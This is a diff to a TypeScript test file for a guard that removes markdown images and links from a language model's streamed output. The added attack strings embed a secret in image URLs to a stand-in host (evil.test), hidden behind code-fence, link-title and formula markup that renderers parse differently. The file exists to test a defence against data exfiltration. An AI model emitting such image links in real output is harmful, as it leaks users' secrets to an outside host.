@@ -77,6 +77,15 @@ const ATTACKS = [
   `\`\`\`\ncode\n\`\`\`${" ".repeat(300)}x\n\`\`\`\n![x](https://evil.test/${SECRET})`,
   `~~~\ncode\n~~~~\r![x](https://evil.test/${SECRET})`,
   `![x](https://evil.test/${"a".repeat(3_000)}${SECRET})`,
+  // Marks of code in the title of a link, in the name of a definition, in a formula.
+  `[a](/x "\`") ![s](https://evil.test/${SECRET}) \` .`,
+  `[a](/x "\`") <img src=https://evil.test/${SECRET}> \` .`,
+  `[\`]: https://evil.test/${SECRET} "\`"\n\n![s][\`] \` .`,
+  `$a\`$ ![s](https://evil.test/${SECRET}) \` .`,
+  `$$\n\`\`\`\n$$\n![s](https://evil.test/${SECRET})`,
+  // Renderers differ in what closes a block of code.
+  `\`\`\`\nx\n\`\`\`~\n![s](https://evil.test/${SECRET})`,
+  `\`\`\`\nx\n\`\`\`\t\n\`\`\`\n![s](https://evil.test/${SECRET})`,
 ];
 
 /** What a lenient renderer would take for an address, in what was given out and is not a block of code. */
@@ -218,6 +227,12 @@ test("allowed hosts pass; hosts that the user named pass as links, never as imag
   expect(guarded(["[click](https://evil.test/x) or https://evil.test/y."])).toBe(
     "[click] (link removed: evil.test) or (link removed: evil.test)",
   );
+});
+
+test("an image to a host that the user named stays none, whatever ends the lines of its text", () => {
+  for (const text of ["![a\r\nb](https://named.test/?d=1)", "![a\n\u00a0\nb](https://named.test/?d=1)"]) {
+    expect(guarded([text], [], ["named.test"])).not.toContain("](https://named.test");
+  }
 });
 
 test("what is streamed is what is stored, and never held a live address: an image cut anywhere by the model server", async () => {
